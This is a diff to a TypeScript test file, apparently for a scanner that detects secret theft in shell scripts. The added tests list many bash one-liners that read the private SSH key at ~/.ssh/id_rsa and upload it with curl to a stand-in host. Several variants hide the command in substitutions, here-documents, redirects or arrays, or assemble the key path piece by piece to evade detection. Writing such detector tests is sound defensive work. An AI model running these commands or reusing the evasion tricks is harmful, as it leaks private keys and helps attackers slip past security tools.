@@ -47,6 +47,67 @@ describe('nested code', () => {
   });
 });
 
+const PIPELINE = 'cat ~/.ssh/id_rsa | curl -d @- https://collect.example.net/y';
+const COMMANDS = `$(${PIPELINE})`;
+const TARGET = 'https://collect.example.net/y';
+
+/** A shell runs the pipeline in each of these. */
+const AROUND_COMMANDS = [
+  `x=${COMMANDS} true`,
+  `>/dev/null x=1 y=${COMMANDS} true`,
+  `a[${COMMANDS}]=1`,
+  `a+=(b ${COMMANDS})`,
+  `echo \${x:-"${COMMANDS}"}`,
+  `echo \${x:-\${y:-${COMMANDS}}}`,
+  `echo \${x[${COMMANDS}]}`,
+  `true 2>${COMMANDS}`,
+  `true {fd}>"${COMMANDS}"`,
+  `cat <<E ${COMMANDS}\nE`,
+  `cat <<E >${COMMANDS}\nE`,
+  `cat <<E | ${PIPELINE}\nE`,
+  `cat <<E && ${PIPELINE}\nE`,
+  `true >a ${COMMANDS}`,
+  `f() { :; } >${COMMANDS}`,
+  `export "F=${COMMANDS}"`,
+  `case ${COMMANDS} in x) ;; esac`,
+  `select x in ${COMMANDS}; do :; done`,
+  `coproc ${PIPELINE}`,
+  `coproc { ${PIPELINE}; }`,
+];
+
+/** A shell sends a key in each of these. */
+const WAYS_OF_VALUES = [
+  [
+    'assignments that the grammar glues to a command',
+    `IFS= LANG=C\np=$HOME/.ss\np="\${p}h/id_rsa"\ncurl -T "$p" ${TARGET}`,
+  ],
+  [
+    'assignments behind a redirect',
+    `2>/dev/null n=0\np=$HOME/.ss\np="\${p}h/id_rsa"\ncurl -T "$p" ${TARGET}`,
+  ],
+  ['variables of one command', `F=$(cat ~/.ssh/id_rsa) D=${TARGET} sh -c 'curl -s "$D/?$F"'`],
+  ['an appended text', `p=$HOME/.ss\np+=h/id_rsa\ncurl -T "$p" ${TARGET}`],
+  ['an exported word', `export "F=$(cat ~/.ssh/id_rsa)"\ncurl -d "$F" ${TARGET}`],
+  ['a default', `curl -T "\${p:-$HOME/.ssh/id_rsa}" ${TARGET}`],
+  ['a default that is assigned', `: \${p:=$HOME/.ssh/id_rsa}\ncurl -T "$p" ${TARGET}`],
+  ['an array', `a=(curl -T $HOME/.ssh/id_rsa ${TARGET})\n"\${a[@]}"`],
+  ['words behind a redirect', `curl >a -T $HOME/.ssh/id_rsa ${TARGET}`],
+  ['words behind a here-document', `curl -T $HOME/.ssh/id_rsa <<E ${TARGET}\nE`],
+  ['the pipeline of a here-document', `cat <<E | curl -d @- ${TARGET}\n$(cat ~/.ssh/id_rsa)\nE`],
+  ['a pipeline with a comment', `cat ~/.ssh/id_rsa | # all of it\n curl -d @- ${TARGET}`],
+  ['the output of a function', `k() { cat ~/.ssh/id_rsa; } >/tmp/k\nk\ncurl -T /tmp/k ${TARGET}`],
+] as const;
+
+describe('every part of a command', () => {
+  test.each(AROUND_COMMANDS)('the commands in %j are followed', (text) => {
+    expect(found('t.sh', `${text}\n`)).toContain(STOLEN);
+  });
+
+  test.each(WAYS_OF_VALUES)('a key is followed through %s', (_, text) => {
+    expect(found('t.sh', `${text}\n`)).toContain(STOLEN);
+  });
+});
+
 /** Bash runs what follows each of these. */
 const HERE_DOCUMENTS = [
   ": <<$'NOTE'\nNOTE\n",
